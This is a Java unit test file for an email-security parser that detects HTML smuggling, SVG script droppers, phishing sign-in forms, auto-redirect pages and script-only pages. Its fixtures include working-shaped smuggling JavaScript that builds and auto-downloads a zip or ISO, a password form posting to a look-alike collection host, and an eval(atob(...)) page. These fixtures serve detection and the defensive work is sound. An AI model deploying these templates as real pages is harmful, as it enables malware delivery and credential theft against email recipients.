package org.threadguard.imap.parse;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import org.junit.jupiter.api.Test;
import org.threadguard.heuristics.model.MailMessage;

/** Web pages and SVG images whose script builds a file in the browser are recognised, without running them. */
class HtmlSmugglingTest {
    static final String PAGE = "<html><body><p>Loading document...</p><script>\n"
            + "var d = atob('" + Base64.getEncoder().encodeToString("PK\u0003\u0004fake zip".getBytes(StandardCharsets.ISO_8859_1))
            + "'); var b = new Uint8Array(d.length); for (var i = 0; i < d.length; i++) { b[i] = d.charCodeAt(i); }\n"
            + "var blob = new Blob([b], {type: 'application/zip'}); var a = document.createElement('a');\n"
            + "a.href = URL.createObjectURL(blob); a.download = 'Dokumenty_2291.zip'; a.click();\n</script></body></html>";
    static final String SVG = "<svg xmlns=\"http://www.w3.org/2000/svg\"><script type=\"text/javascript\"><![CDATA[\n"
            + "const p = Uint8Array.from(atob('UEsDBA=='), c => c.charCodeAt(0));\n"
            + "window.navigator.msSaveOrOpenBlob ? navigator.msSaveOrOpenBlob(new Blob([p]), \"Invoice.iso\")\n"
            + " : location.href = URL.createObjectURL(new Blob([p]));]]></script></svg>";

    @Test
    void aPageThatBuildsAZipIsRecognisedWithTheFilesName() {
        assertThat(HtmlSmuggling.smuggledFile(PAGE.getBytes(StandardCharsets.UTF_8))).hasValue("Dokumenty_2291.zip");
        assertThat(HtmlSmuggling.smuggledFile(SVG.getBytes(StandardCharsets.UTF_8))).hasValue("Invoice.iso");
    }

    @Test
    void ordinaryPagesAndNewslettersAreNot() {
        String newsletter = "<html><head><script src=\"https://cdn.example/analytics.js\"></script></head><body>"
                + "<img src=\"data:image/png;base64,iVBORw0KGgo=\"><a href=\"https://shop.example/\">Shop</a></body></html>";
        assertThat(HtmlSmuggling.smuggledFile(newsletter.getBytes(StandardCharsets.UTF_8))).isEmpty();
        assertThat(HtmlSmuggling.smuggledFile("<svg><circle r=\"4\"/></svg>".getBytes(StandardCharsets.UTF_8))).isEmpty();
        assertThat(HtmlSmuggling.smuggledFile(new byte[] {(byte) 0xff, 0, 3})).isEmpty();
    }

    @Test
    void theParserMarksTheAttachment() {
        String raw = "From: Piotr <piotr@partner.example>\r\nTo: me@example.com\r\nSubject: ODP: Dokumenty\r\n"
                + "Message-ID: <svg@partner.example>\r\nMIME-Version: 1.0\r\n"
                + "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
                + "Prosz\u0119 otworzy\u0107 plik w przegl\u0105darce.\r\n--b\r\nContent-Type: image/svg+xml; name=Dokumenty.svg\r\n"
                + "Content-Disposition: attachment; filename=Dokumenty.svg\r\n\r\n" + SVG + "\r\n--b--\r\n";
        MailMessage m = MimeParser.parse(raw.getBytes(StandardCharsets.UTF_8), "k", "INBOX");
        assertThat(m.attachments()).singleElement().satisfies(a -> assertThat(a.smuggledFile()).hasValue("Invoice.iso"));
    }

    static final String SIGN_IN = "<html><head><title>Sign in to your account</title></head><body>"
            + "<form method=\"post\" action=\"https://m365-secure-login.example-host.net/collect.php\">"
            + "<input type=\"email\" name=\"login\" value=\"k.brandt@hessler.example\">"
            + "<input name=\"passwd\" type=\"password\" placeholder=\"Password\"><button>Sign in</button></form>"
            + "</body></html>";

    @Test
    void aPageWithAPasswordFieldIsASignInFormAndSaysWhereItSendsThePassword() {
        assertThat(HtmlSmuggling.passwordFormTarget(SIGN_IN.getBytes(StandardCharsets.UTF_8)))
                .hasValue("m365-secure-login.example-host.net");
        String scripted = "<form id=f><input type='password' id=p></form><script>send(p.value)</script>";
        assertThat(HtmlSmuggling.passwordFormTarget(scripted.getBytes(StandardCharsets.UTF_8))).hasValue("");
        String order = "<form action=\"https://shop.example/order\"><input type=\"text\" name=\"qty\"></form>";
        assertThat(HtmlSmuggling.passwordFormTarget(order.getBytes(StandardCharsets.UTF_8))).isEmpty();
    }

    @Test
    void theParserMarksASignInPage() {
        String raw = "From: Sandra <sandra@partner.example>\r\nTo: me@example.com\r\nSubject: AW: Lieferplan\r\n"
                + "Message-ID: <form@partner.example>\r\nMIME-Version: 1.0\r\n"
                + "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
                + "Anbei der Lieferplan.\r\n--b\r\nContent-Type: text/html; name=Lieferplan.html\r\n"
                + "Content-Disposition: attachment; filename=Lieferplan.html\r\n\r\n" + SIGN_IN + "\r\n--b--\r\n";
        MailMessage m = MimeParser.parse(raw.getBytes(StandardCharsets.UTF_8), "k", "INBOX");
        assertThat(m.attachments()).singleElement().satisfies(a -> {
            assertThat(a.passwordFormTarget()).hasValue("m365-secure-login.example-host.net");
            assertThat(a.smuggledFile()).isEmpty();
        });
    }

    static final String SVG_DOORWAY = "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\">"
            + "<text x=\"40\" y=\"60\">Loading...</text><script type=\"text/javascript\"><![CDATA[\n"
            + "var u = \"https://schedule-viewer.example-free-host.com/login?e=\" + \"bWVAZXhhbXBsZS5jb20=\";\n"
            + "window.location.href = u;\n]]></script></svg>";
    static final String REFRESH = "<html><head><meta http-equiv=\"refresh\" content=\"0; url=https://gateway.example/ipfs/bafy/x.html#id\">"
            + "</head><body><p>Document is loading...</p></body></html>";

    @Test
    void aPageThatSendsTheReaderElsewhereByItselfIsADoorway() {
        assertThat(HtmlSmuggling.redirectTarget(SVG_DOORWAY.getBytes(StandardCharsets.UTF_8)))
                .hasValue("https://schedule-viewer.example-free-host.com/login?e=");
        assertThat(HtmlSmuggling.redirectTarget(REFRESH.getBytes(StandardCharsets.UTF_8)))
                .hasValue("https://gateway.example/ipfs/bafy/x.html#id");
    }

    @Test
    void aPageWithContentOfItsOwnOrWithoutNavigationIsNot() {
        String article = "<html><body>" + "<p>Quarterly figures for the northern region, by product line.</p>".repeat(20)
                + "<script>function share() { window.open('https://social.example/share?u=x'); }</script></body></html>";
        assertThat(HtmlSmuggling.redirectTarget(article.getBytes(StandardCharsets.UTF_8))).isEmpty();
        String noNavigation = "<html><body><p>Hi</p><script>var cdn = 'https://cdn.example/x.js';</script></body></html>";
        assertThat(HtmlSmuggling.redirectTarget(noNavigation.getBytes(StandardCharsets.UTF_8))).isEmpty();
        assertThat(HtmlSmuggling.redirectTarget(SIGN_IN.getBytes(StandardCharsets.UTF_8))).isEmpty();
    }

    @Test
    void theParserMarksADoorwayAndKeepsWhereItLeadsAsALink() {
        String raw = "From: Ingrid <ingrid@partner.example>\r\nTo: me@example.com\r\nSubject: RE: Rooster\r\n"
                + "Message-ID: <door@partner.example>\r\nMIME-Version: 1.0\r\n"
                + "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
                + "Het rooster.\r\n--b\r\nContent-Type: image/svg+xml; name=Rooster.svg\r\n"
                + "Content-Disposition: attachment; filename=Rooster.svg\r\n\r\n" + SVG_DOORWAY + "\r\n--b--\r\n";
        MailMessage m = MimeParser.parse(raw.getBytes(StandardCharsets.UTF_8), "k", "INBOX");
        assertThat(m.attachments()).singleElement()
                .satisfies(a -> assertThat(a.redirectHost()).hasValue("schedule-viewer.example-free-host.com"));
        assertThat(m.links()).anySatisfy(l -> assertThat(l.host()).isEqualTo("schedule-viewer.example-free-host.com"));
    }

    static final String SVG_BUTTON = "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\">"
            + "<text x=\"32\" y=\"60\">Voice message - 00:47</text>"
            + "<a xlink:href=\"https://vm-playback.relay.example/play?id=wf4p&amp;u=ana%40firma.example\" target=\"_blank\">"
            + "<rect width=\"180\" height=\"44\"/><text>Play message</text></a></svg>";

    @Test
    void theLinksOfAButtonPageAreWhatItWantsOpened() {
        assertThat(HtmlSmuggling.clickableLinks(SVG_BUTTON.getBytes(StandardCharsets.UTF_8)))
                .containsExactly("https://vm-playback.relay.example/play?id=wf4p&u=ana%40firma.example");
        StringBuilder saved = new StringBuilder("<html><body>");
        for (int i = 0; i < 8; i++) {
            saved.append("<a href=\"https://site").append(i).append(".example/\">source ").append(i).append("</a> ");
        }
        assertThat(HtmlSmuggling.clickableLinks(saved.append("</body></html>").toString()
                .getBytes(StandardCharsets.UTF_8))).as("a saved page linking many sites").isEmpty();
    }

    @Test
    void anSvgWithAScriptOrAPageThatIsOnlyAScriptRunsCode() {
        String svg = "<svg xmlns=\"http://www.w3.org/2000/svg\"><text>Oficio</text><script><![CDATA[var d=\"anto8+Tev\";]]>"
                + "</script></svg>";
        assertThat(HtmlSmuggling.runsScript(svg.getBytes(StandardCharsets.UTF_8), true)).isTrue();
        assertThat(HtmlSmuggling.runsScript(SVG_BUTTON.getBytes(StandardCharsets.UTF_8), true)).isFalse();
        String report = "<html><body>" + "<p>Build 4411: 1,208 tests passed, 3 skipped, duration 14 min.</p>".repeat(20)
                + "<script>function toggle(id) { document.getElementById(id).hidden ^= true; }</script></body></html>";
        assertThat(HtmlSmuggling.runsScript(report.getBytes(StandardCharsets.UTF_8), false))
                .as("a report with a script for its own buttons").isFalse();
        String onlyScript = "<html><body><script>eval(atob('ZG9jdW1lbnQud3JpdGUoJzxmb3JtPicp'))</script></body></html>";
        assertThat(HtmlSmuggling.runsScript(onlyScript.getBytes(StandardCharsets.UTF_8), false)).isTrue();
    }

    @Test
    void theParserKeepsTheButtonsLinkOfAnAttachedPicture() {
        String raw = "From: Galil <buyer@galil.example>\r\nTo: ana@firma.example\r\nSubject: RE: Order\r\n"
                + "Message-ID: <vm@galil.example>\r\nMIME-Version: 1.0\r\n"
                + "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
                + "Voice message attached.\r\n--b\r\nContent-Type: image/svg+xml; name=VM_0047.svg\r\n"
                + "Content-Disposition: attachment; filename=VM_0047.svg\r\n\r\n" + SVG_BUTTON + "\r\n--b--\r\n";
        MailMessage m = MimeParser.parse(raw.getBytes(StandardCharsets.UTF_8), "k", "INBOX");
        assertThat(m.links()).anySatisfy(l -> assertThat(l.host()).isEqualTo("vm-playback.relay.example"));
    }
}
